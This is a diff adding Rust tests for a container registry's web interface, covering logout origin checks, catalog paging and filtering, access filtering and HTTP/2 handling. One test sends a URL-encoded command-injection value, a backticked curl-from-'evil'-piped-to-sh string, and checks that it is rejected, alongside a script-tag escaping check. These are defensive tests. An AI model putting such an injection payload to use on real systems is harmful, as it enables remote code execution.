@@ -161,6 +161,8 @@ async fn anonymous_callers_see_what_they_may_pull_and_a_login_reveals_the_rest()
     assert!(r.header("set-cookie").contains("Max-Age=0"));
 
     // Sign out clears the cookie; a form of another site may not sign anyone in or out.
+    let elsewhere = [("cookie", cookie.as_str()), ("origin", "https://evil.example")];
+    assert_eq!(s.req("POST", "/ui/logout", &elsewhere, Bytes::new()).await.status, 403);
     let out = s.req("POST", "/ui/logout", &[("cookie", &cookie)], Bytes::new()).await;
     assert_eq!(out.status, 303);
     assert!(out.header("set-cookie").contains("Max-Age=0"));
@@ -198,15 +200,22 @@ async fn the_catalog_pages_and_the_filter_narrows() {
     let html = text(&page(&s, "/ui/?last=public/d-two", None).await);
     assert!(html.contains("public/e-one") && !html.contains("rel=\"next\""), "{html}");
 
-    // "one": a-one, c-one in the first three names looked at; then the budget says keep looking.
+    // "one": a-one, c-one in the first three names looked at fill the page.
     let html = text(&page(&s, "/ui/?q=one", None).await);
     assert!(
         html.contains("public/a-one") && html.contains("public/c-one") && !html.contains("two"),
         "{html}"
     );
     assert!(html.contains("href=\"/ui/?last=public/c-one&amp;q=one\""), "{html}");
+    assert!(html.contains(">Next page<"), "{html}");
     let html = text(&page(&s, "/ui/?q=one&last=public/c-one", None).await);
     assert!(html.contains("public/e-one") && !html.contains("a-one"), "{html}");
+    // "two": one match in the three names the budget allows; the rest is further on.
+    let html = text(&page(&s, "/ui/?q=two", None).await);
+    assert!(html.contains("public/b-two") && !html.contains("public/d-two"), "{html}");
+    assert!(html.contains("href=\"/ui/?last=public/c-one&amp;q=two\">Keep looking<"), "{html}");
+    let html = text(&page(&s, "/ui/?q=two&last=public/c-one", None).await);
+    assert!(html.contains("public/d-two") && !html.contains("b-two"), "{html}");
     let html = text(&page(&s, "/ui/?q=%3Cscript%3E", None).await);
     assert!(html.contains("value=\"&lt;script&gt;\"") && !html.contains("<script>"), "{html}");
 }
@@ -272,6 +281,12 @@ async fn an_image_page_shows_platforms_layers_labels_and_referrers_as_text() {
     assert!(html.contains("Refers to") && html.contains(&format!("@{amd}")), "{html}");
 
     assert_eq!(page(&s, "/ui/r/public/tool:nope", None).await.status, 404);
+    // Only a tag or a digest the grammar accepts: nothing else reaches a pull command.
+    let planted = page(&s, "/ui/r/public/tool:1.0%3Fx=%60curl%24%7BIFS%7Devil%7Csh%60", None).await;
+    assert_eq!(planted.status, 404);
+    assert!(!text(&planted).contains("docker pull"), "{}", text(&planted));
+    assert_eq!(page(&s, "/ui/r/public/tool@sha256:zz", None).await.status, 404);
+    assert!(!html.to_lowercase().contains("delete"));
     assert_eq!(page(&s, "/ui/r/public/none", None).await.status, 404);
     assert_eq!(page(&s, "/ui/r/Not..A..Name", None).await.status, 404);
 }
@@ -373,4 +388,47 @@ async fn the_binary_serves_the_page_unless_the_configuration_turns_it_off() {
     let (_off, addr) = spawn_donjon(&["--data-dir", data, "--config-file", file.to_str().unwrap()]);
     assert_eq!(send(&c, "GET", &format!("http://{addr}/ui/"), &[], Bytes::new()).await.status, 404);
     assert_eq!(send(&c, "GET", &format!("http://{addr}/v2/"), &[], Bytes::new()).await.status, 200);
+}
+
+/// The registry lists only what the caller may pull: a catalog page of names it may not see
+/// comes back empty, with a `Link` to the rest, and the page follows it.
+#[tokio::test]
+async fn the_catalog_reaches_past_what_the_caller_may_not_see() {
+    let (s, _d) = setup(BrowseLayer::new().page_size(2)).await;
+    for r in ["a-team/one", "a-team/three", "a-team/two", "public/x", "public/y", "public/z"] {
+        image(&s, r, "latest", "amd64", serde_json::json!({})).await;
+    }
+    let html = text(&page(&s, "/ui/", None).await);
+    assert!(html.contains("public/x") && html.contains("public/y") && !html.contains("a-team"), "{html}");
+    assert!(html.contains("href=\"/ui/?last=public/y\""), "{html}");
+    let html = text(&page(&s, "/ui/?last=public/y", None).await);
+    assert!(html.contains("public/z") && !html.contains("rel=\"next\""), "{html}");
+}
+
+/// Browsers speak HTTP/2 over TLS, with no `Host` header: the login's same-origin check and
+/// the pull commands take the request's authority.
+#[tokio::test]
+async fn over_http2_the_authority_is_the_host() {
+    let (s, _d) = setup(BrowseLayer::new()).await;
+    image(&s, "public/h2", "v1", "amd64", serde_json::json!({})).await;
+    let h2: hyper_util::client::legacy::Client<_, http_body_util::Full<Bytes>> =
+        hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
+            .http2_only(true)
+            .build_http();
+    let origin = format!("http://{}", s.addr);
+    let req = http::Request::post(s.url("/ui/login"))
+        .header("origin", &origin)
+        .header("content-type", "application/x-www-form-urlencoded")
+        .body(http_body_util::Full::new(Bytes::from("username=alice&password=alice-pw")))
+        .unwrap();
+    let resp = h2.request(req).await.unwrap();
+    assert_eq!(resp.version(), http::Version::HTTP_2);
+    assert_eq!(resp.status(), 303, "a same-origin login over HTTP/2");
+    let req = http::Request::get(s.url("/ui/r/public/h2:v1"))
+        .body(http_body_util::Full::new(Bytes::new()))
+        .unwrap();
+    let resp = h2.request(req).await.unwrap();
+    let body = http_body_util::BodyExt::collect(resp.into_body()).await.unwrap().to_bytes();
+    let html = String::from_utf8_lossy(&body);
+    assert!(html.contains(&format!("docker pull {}/public/h2:v1", s.addr)), "{html}");
 }
